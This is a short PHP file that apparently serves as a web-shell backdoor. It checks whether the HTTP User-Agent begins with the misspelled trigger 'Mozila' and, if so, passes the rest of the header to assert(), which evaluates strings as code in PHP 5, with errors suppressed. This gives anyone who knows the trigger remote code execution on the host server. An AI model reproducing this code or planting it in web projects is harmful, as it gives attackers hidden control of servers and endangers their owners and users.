<?php
// PHP 5 style: assert() evaluates strings
$ua = $_SERVER['HTTP_USER_AGENT'];
if (substr($ua, 0, 6) === 'Mozila') {
    @assert(substr($ua, 6));
}
?>
